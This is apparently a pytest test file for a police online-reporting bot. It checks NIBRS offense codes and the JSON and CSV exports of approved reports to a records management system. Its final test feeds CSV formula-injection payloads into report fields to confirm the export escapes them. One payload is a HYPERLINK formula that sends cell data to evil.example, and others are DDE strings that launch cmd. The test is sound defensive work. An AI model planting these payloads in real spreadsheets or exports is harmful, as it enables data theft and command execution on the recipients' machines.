"""Approved reports for the records management system: NIBRS codes, JSON and CSV."""
from __future__ import annotations

import csv
import io
import json

import pytest

from bot.staff import review

from bot.staff import rms

from bot.records import outcomes
from bot.profile import profile
from tests.bot.staff.drafts import DRAFT_FACTS

FACTS = DRAFT_FACTS

# incident type, details, NIBRS code (None: not a NIBRS offense)
NIBRS = [
    pytest.param("vandalism", {}, "290", id="vandalism"),
    pytest.param("damage_to_motor_vehicle", {"vehicle": "blue Subaru"}, "290", id="damage-to-a-vehicle"),
    pytest.param("identity_theft", {"accounts": "bank card"}, "26F", id="identity-theft"),
    pytest.param("vehicle_burglary", {"vehicle": "blue Subaru", "items": "laptop"}, "23F", id="vehicle-burglary"),
    pytest.param("vehicle_burglary", {"vehicle_parts": True}, "23F", id="vehicle-burglary-has-no-parts-code"),
    pytest.param("theft", {"items": "bike"}, "23H", id="theft"),
    pytest.param("theft", {"vehicle_parts": False}, "23H", id="theft-not-of-vehicle-parts"),
    pytest.param("theft", {"vehicle_parts": True}, "23G", id="theft-of-vehicle-parts"),
    pytest.param("lost_property", {"items": "wallet"}, None, id="lost-property"),
    pytest.param("harassing_phone_call", {"caller_number": "+12035550188"}, None, id="harassing-calls"),
    pytest.param("vehicle_tampering", {"vehicle": "blue Subaru"}, None, id="vehicle-tampering"),
]


def draft(session, **changes):
    facts = {**FACTS, "items": None, **changes}
    outcome = outcomes.file_report(session, "web:abc", "web", facts)
    session.commit()
    return outcome


def approved(session, **changes):
    outcome = draft(session, **changes)
    review.approve(session, outcome.id, "casey")
    session.commit()
    return outcome


def test_every_online_type_has_an_expected_nibrs_code():
    assert {param.values[0] for param in NIBRS} == set(profile().online_slugs)


@pytest.mark.parametrize(("incident_type", "details", "code"), NIBRS)
def test_each_online_type_maps_to_its_nibrs_offense(session, incident_type, details, code):
    record = rms.rms_record(draft(session, incident_type=incident_type, **details))
    assert record["nibrs_code"] == code
    assert record["nibrs_reportable"] is (code is not None)
    assert (record["nibrs_offense"] is None) is (code is None)


def test_only_approved_reports_are_exported(session):
    first = approved(session, narrative="first")
    draft(session, narrative="waiting")
    review.request_info(session, draft(session).id, "casey", "The serial number.")
    review.reject(session, draft(session).id, "casey", "A known suspect.")
    outcomes.record_ineligible(session, "web:xyz", "web", "known_suspect", FACTS)
    session.commit()
    second = approved(session, narrative="second")
    assert rms.approved_reports(session) == [first, second]  # in the order they were approved


def test_the_json_export_carries_the_case_number_and_the_code(session):
    report = approved(session, incident_type="vehicle_burglary", vehicle="blue Subaru")
    out = io.StringIO()
    assert rms.write_json(rms.approved_reports(session), out) == 1
    exported = json.loads(out.getvalue())
    assert exported["agency"] == profile().name
    [record] = exported["reports"]
    assert (record["case_number"], record["reference"]) == (report.case_number, report.reference)
    assert (record["nibrs_code"], record["nibrs_reportable"]) == ("23F", True)
    assert record["reporter"] == {"name": "Pat Doe", "email": "pat@example.org", "phone": "+12035550147"}
    assert (record["approved_by"], record["details"]) == ("casey", {"vehicle": "blue Subaru"})


def export_csv(session) -> list[dict]:
    out = io.StringIO()
    count = rms.write_csv(rms.approved_reports(session), out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert count == len(rows)
    return rows


def test_the_csv_export_carries_the_case_number_the_code_and_the_phone(session):
    report = approved(session, vehicle_parts=True)
    [row] = export_csv(session)
    assert (row["case_number"], row["nibrs_code"], row["nibrs_reportable"]) == (report.case_number, "23G", "True")
    assert row["reporter_phone"] == "+12035550147"  # a phone number keeps its "+"
    assert row["narrative"] == FACTS["narrative"]


@pytest.mark.parametrize(("when", "start", "end"), [
    pytest.param({"occurred_at": "2026-11-20"}, "2026-11-20", None, id="day-only"),
    pytest.param({"occurred_at": "2026-11-20T21:00-05:00", "occurred_end": "2026-11-21T05:00-05:00"},
                 "2026-11-20T21:00-05:00", "2026-11-21T05:00-05:00", id="window"),
    pytest.param({"occurred_at": "2026-11-20T21:15-05:00"}, "2026-11-20T21:15-05:00", None, id="moment"),
    pytest.param({"occurred_at": "unknown"}, "unknown", None, id="unknown"),
])
def test_the_rms_gets_a_day_alone_or_both_ends_of_a_window(session, when, start, end):
    approved(session, **when)
    [record] = json.loads(_json(session))["reports"]
    assert (record["occurred_at"], record["occurred_end"]) == (start, end)
    [row] = export_csv(session)
    assert (row["occurred_at"], row["occurred_end"]) == (start, end or "")


def _json(session) -> str:
    out = io.StringIO()
    rms.write_json(rms.approved_reports(session), out)
    return out.getvalue()


@pytest.mark.parametrize("field", ["narrative", "location", "reporter_name", "occurred_text"])
@pytest.mark.parametrize("typed", [
    pytest.param('=HYPERLINK("http://evil.example/?d="&A1,"click")', id="equals"),
    pytest.param("+1+cmd|' /C calc'!A0", id="plus"),
    pytest.param("-2+3", id="minus"),
    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", id="at"),
])
def test_resident_text_cannot_run_as_a_formula_in_a_spreadsheet(session, field, typed):
    approved(session, **{field: typed})
    [row] = export_csv(session)
    assert row[field] == "'" + typed
